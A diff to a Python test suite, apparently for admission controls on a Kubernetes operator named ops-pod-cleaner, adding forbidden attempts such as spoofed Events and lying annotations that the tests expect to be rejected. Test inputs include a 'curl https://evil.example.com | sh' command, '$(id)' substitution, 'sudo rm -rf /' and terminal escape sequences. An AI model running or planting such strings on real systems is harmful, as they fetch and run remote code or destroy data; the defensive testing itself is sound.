@@ -102,6 +102,7 @@ class Scene:
         self.unbound = o.pod(ns, node=None)
         time.sleep(1.5)     # the Job's controller counts it
         self.job_pod = o.get(job_pod)
+        t.admin.post(f"/api/v1/namespaces/{ns}/events", event(ns, "ours-already", "ops-pod-cleaner"))
         self.told = t.admin.post(f"/api/v1/namespaces/{ns}/events", event(ns, "told", "kubelet"))
         self.serve(t)
 
@@ -126,8 +127,9 @@ class Scene:
 
 
 def event(ns, name, component):
-    return {"metadata": {"name": name}, "involvedObject": {"kind": "Pod", "namespace": ns, "name": "x"}, "reason": "R", "message": "m",
-            "source": {"component": component}}
+    return {"metadata": {"name": name}, "involvedObject": {"apiVersion": "v1", "kind": "Pod", "namespace": ns, "name": "x"},
+            "reason": "PodDeleted", "message": "m", "type": "Normal", "source": {"component": component}, "reportingComponent": component,
+            "reportingInstance": component}
 
 
 def of(obj, sub=""):
@@ -176,6 +178,8 @@ def attempts_on_pods(s):
         "shorten the grace of a pod that is being deleted": delete(s.patient, gracePeriodSeconds=3),
         "force a pod that a finalizer holds": delete(s.held, gracePeriodSeconds=0),
         # not as it was judged
+        "delete and orphan": delete(s.evicted, propagationPolicy="Orphan"),
+        "delete in the foreground": delete(s.evicted, propagationPolicy="Foreground"),
         "delete without preconditions": ("DELETE", of(s.evicted), None),
         "delete by uid alone": delete(s.evicted, rv=False),
         "delete by resourceVersion alone": delete(s.evicted, uid=False),
@@ -274,8 +278,29 @@ def attempts_on_workloads(s):
     }
 
 
+def lies(s):
+    """What else an annotation of a mark could say: (what, key, value)."""
+    own, other = s.deployment["metadata"]["name"], s.zero["metadata"]["name"]
+    for what, command in (("a way back in another namespace", f"kubectl -n kube-system scale deployments.apps {own} --replicas=..."),
+                          ("a way back of all", f"kubectl -n {s.ns} scale deployments.apps --all --replicas=..."),
+                          ("a way back of another", f"kubectl -n {s.ns} scale deployments.apps {other} --replicas=..."),
+                          ("a way back of another kind", f"kubectl -n {s.ns} scale statefulsets.apps {own} --replicas=..."),
+                          ("a way back with an option", f"kubectl -n {s.ns} scale -o deployments.apps --replicas=..."),
+                          ("the restore of another action", "ops-pod-cleaner restore 8")):
+        yield what, MARK + "undo", command
+    yield "another's name", MARK + "by", "kubelet"
+    yield "an action that is no number", MARK + "action", "$(id)"
+    yield "a time that is none", MARK + "at", "yesterday"
+    yield "a template that is no hash", MARK + "template", "x" * 16
+    yield "a reason of 200 KB", MARK + "why", "x" * 200000
+    yield "a reason of several lines", MARK + "why", "errImagePull:\nsudo rm -rf /"
+    yield "a reason that steers a terminal", MARK + "why", "\x1b[2J"
+    yield "a reason that turns the text around", MARK + "why", "a\u202eb"
+
+
 def attempts_on_replicas(s):
     """A mark that lies, and replicas that no mark tells of."""
+    ns = s.ns
     evil = {"template": image(s.deployment)["spec"]["template"]}
     labels = {"metadata": {"annotations": noted(3), "labels": {"app": "evil"}}, "spec": {"replicas": 0}}
     return {
@@ -297,6 +322,12 @@ def attempts_on_replicas(s):
         "scale to 0 and pause": at_once(s.deployment, 0, noted(3), paused=True),
         "scale to 0 and label": patch(s.deployment, labels),
         "scale to 0 and name a command of one's own": at_once(s.deployment, 0, noted(3, f"{UNDO}; curl https://evil.example.com | sh")),
+        "scale to 0 and name no way back": at_once(s.deployment, 0, {**noted(3), MARK + "undo": None}),
+        **{f"scale to 0 with {what}": at_once(s.deployment, 0, {**noted(3), key: value}) for what, key, value in lies(s)},
+        "suspend and name a way back in backticks": patch(s.job, {"metadata": {"annotations": noted(
+            1, f"kubectl -n {ns} patch jobs.batch job --type=merge -p `{{\"spec\":{{\"suspend\":false}}}}`")}, "spec": {"suspend": True}}),
+        "announce in 200 KB": patch(s.deployment, annotated("ops-pod-cleaner.io/announced", "x" * 200000)),
+        "announce what is no time": patch(s.deployment, annotated("ops-pod-cleaner.io/announced", "errImagePull=now")),
         "scale to 1 with a mark": at_once(s.deployment, 1, noted(3)),
         "scale up with a mark": at_once(s.deployment, 5, noted(3)),
         "mark what runs": patch(s.deployment, {"metadata": {"annotations": noted(3)}}),
@@ -334,6 +365,21 @@ def attempts_on_the_rest(s):
             "type": "Normal", "note": "m", "eventTime": "2026-11-22T10:00:00.000000Z", "reportingController": "ops-pod-cleaner",
             "reportingInstance": "x"}),
         "delete an Event": ("DELETE", f"{core}/events/told", None),
+        **{f"tell an Event {what}": ("POST", f"{core}/events", {**event(ns, "new", "ops-pod-cleaner"), **more}) for what, more in {
+            "reported by another": {"reportingComponent": "kubelet"},
+            "of another host": {"source": {"component": "ops-pod-cleaner", "host": "node-1"}},
+            "about a Secret": {"involvedObject": {"apiVersion": "v1", "kind": "Secret", "namespace": ns, "name": "held"}},
+            "about a RoleBinding": {"involvedObject": {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
+                                                       "namespace": ns, "name": "x"}},
+            "of a reason that is another's": {"reason": "FailedMount"},
+            "of another type": {"type": "Critical"},
+            "that names a related object": {"related": {"kind": "Secret", "namespace": ns, "name": "held"}},
+            "with an action": {"action": "x"},
+            "with a label": {"metadata": {"name": "new", "labels": {"app": "evil"}}},
+            "with a finalizer": {"metadata": {"name": "new", "finalizers": ["example.com/x"]}},
+            "of several lines": {"message": "m\nn"},
+            "that steers a terminal": {"message": "\x1b[2J"}}.items()},
+        "turn an Event of ours to another object": ("PATCH", f"{core}/events/ours-already", {"involvedObject": {"name": "y"}}, MERGE),
         "tell an Event in another's name": ("POST", f"{core}/events", event(ns, "new", "kubelet")),
         "change another's Event": ("PATCH", f"{core}/events/told", {"source": {"component": "ops-pod-cleaner"}, "message": "evil"}, MERGE),
     }
@@ -399,15 +445,38 @@ def duties_are_served(t, s, taken):
         "restore": at_once(s.put_down, 3, {**AWAY, **no_wish}),
         "unmark what is up again": patch(s.up_again, {"metadata": {"annotations": {**AWAY, **no_wish}}}),
         "a named kind to 0": patch(s.fleet, {"spec": {"replicas": 0}}, "scale"),
-        "its mark": patch(s.fleet, {"metadata": {"annotations": noted(2, f"kubectl -n {s.ns} scale fleets.example.com x --replicas=...")}}),
+        "its mark": patch(s.fleet, {"metadata": {"annotations": noted(2, f"kubectl -n {s.ns} scale fleets.example.com {s.fleet['metadata']['name']} --replicas=...")}}),
         "its restore": patch(s.fleet_at_0, {"spec": {"replicas": 2}}, "scale"),
         "suspend": patch(s.job, {"metadata": {"annotations": noted(1, undo)}, "spec": {"suspend": True}}),
+        "an Event again": ("PATCH", f"/api/v1/namespaces/{s.ns}/events/ours-already", {"count": 2, "message": "n, 中文", "lastTimestamp": "2026-11-22T10:00:00Z"}, MERGE),
+        "an announcement": patch(s.zero, annotated("ops-pod-cleaner.io/announced", "errImagePull=2026-11-21T10:22:48Z,crashLoop=2026-11-21T10:22:49Z")),
         "stuck": delete(s.stuck, gracePeriodSeconds=0), "an Event": ("POST", f"/api/v1/namespaces/{s.ns}/events", event(s.ns, "ours", "ops-pod-cleaner"))}
     t.admin.patch(of(s.put_down), annotated("ops-pod-cleaner.io/restore", "now"))
     for what, attempt in served.items():
         code, answer = ask(taken, attempt)
         assert code in (200, 201), f"{what}: {code} {answer}"
     assert t.objects.get(s.stuck) is None, "half-deleted"
+
+
+@scenario("admission/webhook-annotations", servers=("cluster",))
+def webhook_annotations(t):
+    """What a mutating webhook notes on each write is taken where the operator has named it, and nothing else is."""
+    t.is_mine = lambda _: False
+    ns = t.ns()
+    user, token, client = account(t, ns)
+    down = t.objects.workload("Deployment", ns, 2).top
+    own, other = annotated("policies.example.com/checked"), annotated("example.org/checked")
+    wall = t.write("wall.yml", f"errImagePull: {{enable: true, namespaces: {ns}}}\n")
+    for more, what, allowed in (((), own, False), (("--webhook-annotations", "policies.example.com/"), own, True),
+                                (("--webhook-annotations", "policies.example.com/"), other, False)):
+        name = f"before-{ns}-{len(more)}-{int(allowed)}"
+        t.server.wall(user, wall, name, token, ns, more)
+        try:
+            code, answer = ask(client, at_once(down, 0, {**noted(2), **what["metadata"]["annotations"]}), dryRun="All")
+            assert (code == 200) == allowed and (allowed or "no annotation changes but ours" in answer["message"]), f"{more} {what}: {code} {answer}"
+        finally:
+            t.server.unwall(name)
+    t.admin.request("DELETE", f"{RBAC}/clusterrolebindings/{ns}-taken")
 
 
 @scenario("admission/restorer", servers=("cluster",))
